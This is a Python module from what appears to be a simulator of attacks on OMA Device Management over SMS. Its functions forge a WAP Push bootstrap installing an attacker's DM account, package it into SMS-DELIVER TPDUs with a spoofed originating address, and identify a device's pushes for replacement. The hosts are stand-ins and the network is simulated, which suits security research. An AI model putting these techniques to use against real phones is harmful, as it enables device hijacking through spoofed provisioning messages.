"""What the attacks on the SMS leg share: building a forged WAP Push bootstrap, splitting a push
into SMS-DELIVER TPDUs with any originating address, and replacing a device's pushes on the air.

Specs: OMA-TS-DM_Security §5.10.2.3 (the bootstrap and its HMAC, keyed by NETWORKID from the
IMSI, USERPIN or both), WAP-251 WSP Push, TS 23.040 §9.2.2.1 SMS-DELIVER (TP-OA is whatever the
sender writes: GSM/UMTS SMS does not authenticate the originating address).
"""
from __future__ import annotations

from dmsim.network.dm.server import DmServer
from dmsim.network.sms import segmentation, tpdu, wsp_push
from dmsim.network.sms.address import Address

ATTACKER_SERVER_ID = "attacker-dm"
ATTACKER_URI = "http://dm.attacker.test/dm"


class ForgedServer:
    """The attacker's own DM server core: it provisions an account for any DevId it targets and
    protects a bootstrap under whichever key it believes the device uses."""

    def __init__(self, rng, server_id: str = ATTACKER_SERVER_ID):
        self.core = DmServer(server_id, ATTACKER_URI, rng.randbytes)
        self.rng = rng

    def bootstrap_push(self, uri: str, imsi: str, key_type: str, userpin: str | None, tid: int) -> bytes:
        """Return the WAP Push of a bootstrap installing the attacker's account on ``uri``."""
        if uri not in self.core.accounts:
            self.core.provision(uri, client_name=imsi, client_password=self.rng.randbytes(8).hex(),
                                server_password=self.rng.randbytes(8).hex())
        content_type, body = self.core.bootstrap_message(uri, imsi, key_type, userpin)
        return wsp_push.encode_push(content_type, body, tid=tid & 0xFF)


def deliver_tpdus(push: bytes, oa: Address, scts: bytes, ref: int) -> list[bytes]:
    """Return the SMS-DELIVER TPDUs (8-bit data, WAP Push port) that carry ``push`` from ``oa``."""
    return [tpdu.SmsDeliver(oa=oa, pid=tpdu.PID_DEFAULT, dcs=tpdu.DCS_8BIT, scts=scts, ies=ies,
                            user_data=chunk).encode()
            for ies, chunk in segmentation.split_parts(push, dest_port=wsp_push.WAP_PUSH_PORT,
                                                       src_port=wsp_push.WAP_PUSH_SRC_PORT, ref=ref & 0xFF)]


def is_push_to(msg, index: int) -> bool:
    """Return whether the link message ``msg`` is an SMS the server sent to device ``index`` (a
    bootstrap or package #0 part, direct or through the SMSC)."""
    return msg.kind in ("bootstrap", "sms-deliver") and device_of(msg) == index


def device_of(msg) -> int | None:
    """Return the device index an SMS link message goes to (its ``dst`` is the device's URI or,
    through the SMSC, its IMSI), or None."""
    dst = msg.dst
    digits = dst[5:] if dst.startswith("IMSI:") else dst
    if len(digits) == 15 and digits.isdigit() and digits.startswith("00101"):
        return int(digits[5:])
    return None
